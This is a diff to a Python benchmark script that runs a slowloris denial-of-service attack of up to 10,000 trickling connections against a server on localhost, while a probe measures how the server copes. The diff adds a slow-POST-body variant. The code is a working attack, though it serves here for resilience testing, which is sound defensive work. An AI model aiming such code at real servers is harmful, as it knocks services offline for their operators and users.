@@ -1,6 +1,6 @@
 #!/usr/bin/env python3
-"""Slowloris: many connections that trickle their request heads, and fresh requests beside
-them. Part of `make bench` (bench/run.py calls `measure`); also runs alone:
+"""Slowloris: many connections that trickle their request heads (or bodies), and fresh
+requests beside them. Part of `make bench` (bench/run.py calls `measure`); also runs alone:
 
     python3 bench/slowloris.py PORT [PID]     # attack a running server, probe it, and
                                               # sample process PID (default: none)
@@ -9,7 +9,9 @@ The attack and the probe run as processes of their own (this file with `attack` 
 `probe`), so neither waits for the other's interpreter lock, and each prints JSON.
 
 Attack: SLOWLORIS_CONNECTIONS connections (default 10,000) each send a request line and
-then one header line every SLOWLORIS_DRIP seconds (default 1), never ending the head.
+then one header line every SLOWLORIS_DRIP seconds (default 1), never ending the head. In
+the `bodies` variant each sends a whole head of a POST declaring a body of 1,000,000 bytes,
+then one byte of the body every SLOWLORIS_DRIP seconds (as `slowhttptest -B`).
 Whenever fewer are open than that, whether the server answered and closed a connection,
 closed it without an answer, or refused it, new ones are opened at once (until one fails
 to connect: the next try is 10 ms later), so the pressure stays; the answers are counted
@@ -50,8 +52,11 @@ def raise_fd_limit():
 class Attack:
     """The trickling connections: which are open, when each drips next, what ended them."""
 
-    def __init__(self, port):
+    def __init__(self, port, bodies=False):
         self.port = port
+        self.opening, self.dripping = (
+            (b"POST / HTTP/1.1\r\nHost: slow\r\nContent-Length: 1000000\r\n\r\n", b"x")
+            if bodies else (b"GET / HTTP/1.1\r\nHost: slow\r\n", b"X-Slow: 1\r\n"))
         self.selector = selectors.DefaultSelector()
         self.opened_at = {}
         # (due, sequence, socket): the next drip of each open connection, earliest first.
@@ -67,7 +72,7 @@ class Attack:
         s.settimeout(2)
         try:
             s.connect(("127.0.0.1", self.port))
-            s.sendall(b"GET / HTTP/1.1\r\nHost: slow\r\n")
+            s.sendall(self.opening)
         except OSError:
             self.connect_failures += 1
             s.close()
@@ -105,7 +110,7 @@ class Attack:
             if s not in self.opened_at:
                 continue
             try:
-                s.send(b"X-Slow: 1\r\n")
+                s.send(self.dripping)
             except BlockingIOError:
                 pass
             except OSError:
@@ -126,10 +131,11 @@ class Attack:
         self.top_up(wanted)
 
 
-def attack(port, connections, seconds):
-    """Keeps `connections` trickling heads open for `seconds` after the ramp-up."""
+def attack(port, connections, seconds, bodies=False):
+    """Keeps `connections` trickling heads (or bodies) open for `seconds` after the
+    ramp-up."""
     raise_fd_limit()
-    trickling = Attack(port)
+    trickling = Attack(port, bodies)
     ramp_started = time.monotonic()
     # Up to a minute for every connection to be open at once.
     while len(trickling.opened_at) < connections and time.monotonic() - ramp_started < 60:
@@ -225,7 +231,7 @@ def report(process):
     return json.loads(line)
 
 
-def measure(port, workers, connections=CONNECTIONS, seconds=STEADY):
+def measure(port, workers, connections=CONNECTIONS, seconds=STEADY, bodies=False):
     """Runs the attack and, once every connection is open, the probe. `workers` returns
     the worker PIDs of the moment: each is sampled every second for the whole attack, and
     the peaks are those of the busiest. Returns everything as a dict."""
@@ -254,7 +260,8 @@ def measure(port, workers, connections=CONNECTIONS, seconds=STEADY):
     sampler = threading.Thread(target=sample)
     sampler.start()
     attacker = subprocess.Popen([sys.executable, me, "attack", str(port), str(connections),
-                                 str(seconds + 2)], stdout=subprocess.PIPE, text=True)
+                                 str(seconds + 2)] + (["bodies"] if bodies else []),
+                                stdout=subprocess.PIPE, text=True)
     try:
         ready = report(attacker)
         prober = subprocess.Popen([sys.executable, me, "probe", str(port), str(seconds)],
@@ -278,7 +285,8 @@ def measure(port, workers, connections=CONNECTIONS, seconds=STEADY):
 
 def main():
     if sys.argv[1] == "attack":
-        attack(int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]))
+        attack(int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]),
+               sys.argv[5:] == ["bodies"])
     elif sys.argv[1] == "probe":
         probe(int(sys.argv[2]), float(sys.argv[3]))
     else:
